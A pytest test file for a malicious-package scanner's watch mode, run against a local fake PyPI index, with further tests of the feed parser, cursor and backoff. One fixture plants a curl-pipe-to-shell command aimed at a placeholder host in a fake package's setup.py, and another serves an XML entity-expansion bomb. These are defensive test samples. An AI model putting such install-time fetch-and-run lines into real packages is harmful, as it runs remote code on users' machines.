"""`antivenom watch` against a local fake index that publishes releases while it runs; the
feed parser, the cursor and the backoff on their own."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import datetime, timezone
from email.utils import format_datetime
from pathlib import Path

import avkit
import pytest
from antivenom import __version__
from antivenom.watch import Cursor, FeedError, Release, RssFeed, Watcher, parse_since

RUNNER = Path(__file__).resolve().parents[1] / "runner"
SHELL_PIPE = 'import os\n\nos.system("curl https://example.invalid/x|sh")\n'
T0 = datetime(2026, 11, 1, 12, 0, tzinfo=timezone.utc).timestamp()


def rss(releases: list[tuple[str, str, float]]) -> bytes:
    """PyPI's updates feed: newest first, a link per release, RFC 822 dates."""
    items = "".join(
        f"<item><title>{name} {version}</title><link>https://pypi.example.invalid/project/{name}/{version}/</link>"
        f"<description>d</description><pubDate>{format_datetime(datetime.fromtimestamp(when, timezone.utc), True)}"
        f"</pubDate></item>" for name, version, when in sorted(releases, key=lambda r: -r[2]))
    return f'<?xml version="1.0"?><rss version="2.0"><channel><title>updates</title>{items}</channel></rss>'.encode()


class FakeIndex:
    """A Simple API (PEP 503 HTML), /files/ and /rss/updates.xml (avkit's server on 127.0.0.1),
    published to while it serves."""

    def __init__(self, directory: Path) -> None:
        self.directory = directory
        self.pages: dict[str, tuple[str, bytes]] = {}
        self.releases: list[tuple[str, str, float]] = []
        self.files: list[avkit.IndexFile] = []
        self.server = avkit.IndexServer("")

    @property
    def base(self) -> str:
        return self.server.base

    def publish(self, name: str, version: str, when: float, setup_body: str = "") -> None:
        tree = avkit.sdist_tree(name, version, {f"{name}/__init__.py": avkit.CLEAN})
        tree[f"{name}-{version}/setup.py"] = f"{setup_body}\nfrom setuptools import setup\n\nsetup(name={name!r})\n"
        path = avkit.make_tar(self.directory / f"{name}-{version}.tar.gz", tree)
        self.files.append(avkit.IndexFile(name, path))
        self.releases.append((name, version, when))
        pages = avkit.index_pages(self.files)
        pages["/rss/updates.xml"] = ("application/rss+xml", rss(self.releases))
        self.pages.update(pages)  # the server reads this dict on every request

    def downloads(self, filename: str) -> int:
        return self.server.requests.count(f"/files/{filename}")


@contextmanager
def serve(index: FakeIndex) -> Iterator[FakeIndex]:
    with avkit.serve_index(index.pages) as server:
        index.server = server
        yield index


def _watch(index: FakeIndex, out: Path, *extra: str) -> list[str]:
    return [sys.executable, "-c", "from antivenom.cli import main; main()", "watch",
            "--index-url", f"{index.base}/simple", "-o", str(out), "--jobs", "1", *extra]


def _env(tmp: Path) -> dict:
    return {**os.environ, "PYTHONPATH": os.pathsep.join([str(RUNNER), os.environ.get("PYTHONPATH", "")]),
            "SEMGREP_ENABLE_VERSION_CHECK": "0", "TMPDIR": str(tmp)}


def _wait_for(condition, process: subprocess.Popen, what: str, limit: float = 600) -> None:
    """Poll until `condition()`; fail if the watcher died. `limit` only stops a hung test."""
    deadline = time.monotonic() + limit
    while not condition():
        assert process.poll() is None, f"watch exited {process.returncode} while waiting for {what}"
        assert time.monotonic() < deadline, f"gave up waiting for {what}"
        time.sleep(0.2)


def _lines(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


def test_watch_scans_what_is_published_while_it_runs_and_resumes(tmp_path):
    index = FakeIndex(tmp_path / "files")
    index.directory.mkdir()
    index.publish("oldpkg", "1.0", T0)  # in the feed before the watch starts: not scanned
    out, state, html_report = tmp_path / "out.jsonl", tmp_path / "state.json", tmp_path / "watch.html"
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    with serve(index):
        process = subprocess.Popen(_watch(index, out, "--state", str(state), "--interval", "0.2",
                                          "--html", str(html_report)),
                                   env=_env(scratch), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
        try:
            _wait_for(state.exists, process, "the first poll")
            index.publish("goodone", "1.0", T0 + 10)
            _wait_for(lambda: len(_lines(out)) == 1, process, "the first release")
            # two at once, published in the same second: both are new, neither is lost
            index.publish("evilone", "1.0", T0 + 20, SHELL_PIPE)
            index.publish("goodtwo", "2.0", T0 + 20)
            _wait_for(lambda: len(_lines(out)) == 3, process, "three releases")
            # The HTML page is rewritten after the batch's lines are appended: wait for it too.
            _wait_for(lambda: html_report.exists() and "goodtwo" in html_report.read_text(), process, "the HTML report")
        finally:
            process.terminate()
            stderr = process.communicate(timeout=120)[1]
        records = _lines(out)
        assert [(r["release"]["name"], r["release"]["version"]) for r in records] == [
            ("goodone", "1.0"), ("evilone", "1.0"), ("goodtwo", "2.0")], stderr
        assert [r["verdict"] for r in records] == ["clean", "malicious", "clean"]
        assert records[1]["packages"][0]["target"] == "pypi:evilone==1.0"
        assert html_report.exists() and "evilone" in html_report.read_text()
        assert json.loads(state.read_text()) == {"published": T0 + 20, "seen": ["evilone==1.0", "goodtwo==2.0"]}

        # A restart goes on from the state: nothing is downloaded or reported again.
        again = subprocess.run(_watch(index, out, "--state", str(state), "--once"), env=_env(scratch),
                               capture_output=True, text=True, timeout=300)
        assert again.returncode == 0, again.stderr
    assert len(_lines(out)) == 3
    for filename in ("goodone-1.0.tar.gz", "evilone-1.0.tar.gz", "goodtwo-2.0.tar.gz"):
        assert index.downloads(filename) == 1, filename
    assert index.downloads("oldpkg-1.0.tar.gz") == 0
    feed_polls = [agent for path, agent in zip(index.server.requests, index.server.user_agents, strict=True)
                  if path == "/rss/updates.xml"]
    assert len(feed_polls) >= 3 and set(feed_polls) == {f"antivenom/{__version__} (malicious-package scanner; "
                                                          "never installs what it fetches)"}
    assert not [name for name in os.listdir(scratch) if name.startswith("antivenom-")]  # no tree left behind


# -- the parts ----------------------------------------------------------------------------------


def test_rss_feed_reads_releases_and_refuses_entities(tmp_path):
    index = FakeIndex(tmp_path)
    index.pages["/rss/updates.xml"] = ("application/rss+xml", rss([("a-b", "1.0rc1", T0), ("c", "2", T0 + 5)]))
    bomb = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
            b"<rss><channel><item><title>&b;</title></item></channel></rss>")
    index.pages["/bomb.xml"] = ("application/rss+xml", bomb)
    index.pages["/broken.xml"] = ("application/rss+xml", b"<rss><channel><item>")
    with serve(index):
        releases = RssFeed(f"{index.base}/rss/updates.xml").latest()
        assert [(r.name, r.version, r.published) for r in releases] == [("c", "2", T0 + 5), ("a-b", "1.0rc1", T0)]
        for bad in ("/bomb.xml", "/broken.xml", "/missing.xml"):
            with pytest.raises(FeedError):
                RssFeed(index.base + bad).latest()


def test_cursor_takes_releases_of_the_same_second_once():
    cursor = Cursor(T0, ["a==1"])
    same, other, older = Release("a", "1", T0), Release("b", "1", T0), Release("c", "1", T0 - 1)
    assert not cursor.is_new(same) and cursor.is_new(other) and not cursor.is_new(older)
    cursor.advance(other)
    assert not cursor.is_new(other) and cursor.seen == ["a==1", "b==1"]
    cursor.advance(Release("d", "1", T0 + 1))
    assert cursor == Cursor(T0 + 1, ["d==1"])
    assert parse_since("2026-11-01T12:00:00Z") == Cursor(T0) and parse_since(str(T0)) == Cursor(T0)


class _FlakyFeed:
    def __init__(self, failures: int) -> None:
        self.failures = failures
        self.calls = 0

    def latest(self) -> list[Release]:
        self.calls += 1
        if self.calls <= self.failures:
            raise FeedError("HTTP 503")
        return []


def test_errors_back_off_exponentially_up_to_the_cap():
    waits: list[float] = []
    feed = _FlakyFeed(failures=4)
    watcher = Watcher(feed, fetch=lambda releases, d: [], scanner_factory=lambda: None, emit=lambda r: None,
                      state=None, cursor=Cursor(T0), sleep=waits.append, monotonic=lambda: 0.0)
    watcher.run(max_polls=6, interval=1.0, max_backoff=5.0)
    assert feed.calls == 6
    assert waits == [2.0, 4.0, 5.0, 5.0, 1.0]  # doubled per error, capped; the interval once the feed is back
